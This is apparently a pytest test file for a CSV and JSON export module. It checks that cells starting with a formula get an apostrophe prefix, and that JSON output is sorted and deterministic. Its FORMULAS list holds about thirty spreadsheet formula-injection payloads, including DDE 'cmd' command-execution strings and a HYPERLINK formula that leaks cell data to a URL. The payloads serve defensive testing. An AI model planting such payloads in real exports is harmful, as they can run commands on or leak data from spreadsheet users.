"""tests/store: CSV cells that no spreadsheet runs, and JSON that says the same each time."""

import csv
import io
import json
from dataclasses import dataclass
from datetime import UTC, date, datetime
from decimal import Decimal
from enum import StrEnum

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kent_standards.store.tables import csv_text, json_text, safe_cell

# Thirty ways to smuggle a formula past a check of the first character alone (SR20).
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://example.org/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\0=1+1",
    "\tplain",
    "\rplain",
    "\0plain",
    " =1+1",
    "   +1+1",
    "\u00a0=1+1",
    "\u2003@SUM(1)",
    "\u3000-1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u2060+1",
    "\u202e=1+1",
    "\x0b=1+1",
    "\x1f=1+1",
    "＝1+1",
    "＋1＋1",
    "﹣1",
    "＠SUM(1)",
    " \ufeff\t＝HYPERLINK(1)",
)


def read_back(text: str) -> list[list[str]]:
    """What a reader of CSV finds in ``text``."""
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.security(20)
@pytest.mark.parametrize("payload", FORMULAS)
def test_no_cell_of_an_export_begins_a_formula(payload: str) -> None:
    rows = read_back(csv_text(("name", "ward"), [(payload, "Stour")]))
    assert rows[1][0] == "'" + payload
    assert rows[1][1] == "Stour"


def test_there_are_at_least_thirty_payloads() -> None:
    assert len(set(FORMULAS)) >= 30


@pytest.mark.parametrize(
    "text", ["", "Jenny Samper", "St. Mary’s", "7 Oast Lane", "£340.00", "'quoted'", "ﬁne", "a=b"]
)
def test_plain_text_is_left_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@given(st.text())
def test_whatever_is_written_is_read_back_but_for_the_apostrophe(text: str) -> None:
    # csv.reader folds line ends outside quotes only, so each cell comes back exactly.
    rows = read_back(csv_text(("a", "b"), [(text, "end")]))
    assert rows[1:] == [[safe_cell(text), "end"]]
    assert safe_cell(text) in (text, "'" + text)


def test_every_cell_is_quoted() -> None:
    assert csv_text(("a", "b"), [("x", None)]) == '"a","b"\r\n"x",""\r\n'


def test_cells_are_written_as_people_and_programs_expect() -> None:
    values = (date(2012, 7, 28), True, 7, Decimal("340.00"), None)
    rows = read_back(csv_text(("day", "yes", "count", "sum", "none"), [values]))
    assert rows[1] == ["2012-07-28", "true", "7", "340.00", ""]


def test_a_negative_number_is_no_formula_of_ours() -> None:
    assert read_back(csv_text(("n",), [(-3,)]))[1] == ["'-3"]


def test_a_row_of_the_wrong_length_is_refused() -> None:
    with pytest.raises(ValueError, match="1 cells under 2 headers"):
        csv_text(("a", "b"), [("x",)])


def test_a_cell_can_hold_no_list() -> None:
    with pytest.raises(TypeError, match="tuple"):
        csv_text(("a",), [(("x", "y"),)])


class Colour(StrEnum):
    """A value that is stored as its text."""

    RED = "red"


@dataclass(frozen=True)
class Seat:
    """A value of several fields."""

    since: date
    colour: Colour


def test_json_has_sorted_keys_and_plain_values() -> None:
    value = {
        "b": Seat(date(2012, 7, 28), Colour.RED),
        "a": [Decimal("1.50"), datetime(2012, 7, 28, 9, tzinfo=UTC), None, True],
    }
    text = json_text(value)
    assert json.loads(text) == {
        "a": ["1.50", "2012-07-28T09:00:00+00:00", None, True],
        "b": {"since": "2012-07-28", "colour": "red"},
    }
    assert text.index('"a"') < text.index('"b"')
    assert text == json_text(dict(reversed(value.items())))


@pytest.mark.parametrize("value", [1.5, object(), {"a": {1, 2}}])
def test_json_refuses_what_has_no_plain_form(value: object) -> None:
    with pytest.raises(TypeError):
        json_text(value)
